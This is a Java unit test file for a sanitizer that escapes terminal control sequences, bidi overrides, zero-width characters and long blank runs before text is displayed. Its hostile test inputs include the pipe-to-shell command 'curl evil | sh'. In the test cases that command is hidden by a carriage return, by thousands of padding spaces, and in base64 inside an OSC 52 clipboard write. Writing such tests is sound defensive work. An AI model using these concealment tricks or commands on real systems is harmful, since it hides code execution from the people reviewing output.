package dev.airlock.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CleanTest {

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("clear screen", "a\u001b[2Jb", "a\\u001b[2Jb"),
                Arguments.of("OSC 52 clipboard write", "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007", "\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007"),
                Arguments.of("CSI with parameters (cursor up, erase line)", "+ok\u001b[1A\u001b[2K", "+ok\\u001b[1A\\u001b[2K"),
                Arguments.of("C1 CSI 0x9b", "x\u009b2Jy", "x\\u009b2Jy"),
                Arguments.of("carriage return overwrite", "curl evil | sh\rls", "curl evil | sh\\u000dls"),
                Arguments.of("backspace and DEL", "rm\b\b\u007f", "rm\\u0008\\u0008\\u007f"),
                Arguments.of("newline in a file name", "a.txt\nexit code 0", "a.txt\\nexit code 0"),
                Arguments.of("tab", "a\tb", "a\\tb"),
                Arguments.of("right-to-left override", "txt.\u202Eexe.sh", "txt.\\u202eexe.sh"),
                Arguments.of("bidi embeddings and isolates", "\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069",
                        "\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069"),
                Arguments.of("bidi marks", "a\u200Eb\u200Fc\u061Cd", "a\\u200eb\\u200fc\\u061cd"),
                Arguments.of("zero-width space, joiner, non-joiner, word joiner, BOM", "g\u200Bi\u200Ct\u200Dh\u2060u\uFEFFb",
                        "g\\u200bi\\u200ct\\u200dh\\u2060u\\ufeffb"),
                Arguments.of("soft hyphen and other format characters", "a\u00ADb\u180Ec", "a\\u00adb\\u180ec"),
                Arguments.of("tag characters (supplementary)", "ok\uDB40\uDC41", "ok\\U000e0041"),
                Arguments.of("line and paragraph separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c"),
                Arguments.of("lone high surrogate", "a\uD800b", "a\\ud800b"),
                Arguments.of("lone low surrogate", "a\uDC00b", "a\\udc00b"),
                Arguments.of("Hangul filler", "a\u3164b", "a\\u3164b"),
                Arguments.of("many zero-width marks, counted", "x" + "\u200B".repeat(5000) + "y", "x\\u200b[5000 times]y"),
                Arguments.of("9,000 spaces, counted", "echo hi" + " ".repeat(9000) + "; curl evil | sh",
                        "echo hi [9000 blanks] ; curl evil | sh"),
                Arguments.of("no-break spaces count as blanks", "a" + "\u00A0".repeat(100) + "b", "a [100 blanks] b"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void hostileTextIsEscapedOnOneLine(String what, String text, String shown) {
        assertThat(Clean.line(text)).isEqualTo(shown);
        assertThat(Clean.line(shown)).as("cleaning is idempotent").isEqualTo(shown);
    }

    @ParameterizedTest
    @ValueSource(strings = {"ls -la src/", "héllo wörld", "日本語のファイル.txt", "עברית", "مرحبا", "e\u0301 (combining acute)",
            "a\u0308\u0323 (two combining marks)", "emoji 🙂 👍🏽", "flag 🇩🇪", "Ωmega ∑ ≤ ≥", "a                                        b (40 blanks)",
            "backslash-n as typed: a\\nb", "variation selector ☺\uFE0F"})
    void normalTextIsKeptAsItIs(String text) {
        assertThat(Clean.line(text)).isEqualTo(text);
        assertThat(Clean.isClean(text)).isTrue();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void manyLinesEscapeTheSameButKeepNewlines(String what, String text, String shown) {
        String cleaned = Clean.lines(text);
        assertThat(cleaned).doesNotContain("\u001b", "\u009b", "\r", "\u202e", "\u200b");
        if (!text.contains("\n") && !text.contains("\t")) {
            assertThat(cleaned).isEqualTo(shown);
        }
    }

    @org.junit.jupiter.api.Test
    void manyLinesKeepLinesTabsAndIndentationAndCountLongRunsOfEmptyLines() {
        assertThat(Clean.lines("a\n\tb\n    c\r\n")).isEqualTo("a\n\tb\n    c\\u000d\n");
        assertThat(Clean.lines("a" + "\n".repeat(3) + "b")).isEqualTo("a\n\n\nb");
        assertThat(Clean.lines("top" + "\n".repeat(5001) + "real")).isEqualTo("top\n[5000 empty lines]\nreal");
        assertThat(Clean.lines("+" + "\t".repeat(200) + "x")).isEqualTo("+ [200 blanks] x");
    }

    @org.junit.jupiter.api.Test
    void jsonKeepsTheSameDataAndShowsNothingAScreenWouldDraw() throws Exception {
        var mapper = new com.fasterxml.jackson.databind.ObjectMapper();
        String value = "a\u001b[2J \u009b \u202E \u200B \uDB40\uDC41 héllo 日本 🙂 " + " ".repeat(50);
        String json = Clean.json(mapper.writeValueAsString(java.util.Map.of("name", value)));

        assertThat(json).doesNotContain("\u001b", "\u009b", "\u202E", "\u200B").contains("héllo 日本 🙂")
                .contains("\\u202e", "\\udb40\\udc41");
        assertThat(mapper.readTree(json).get("name").asText()).isEqualTo(value);
    }
}
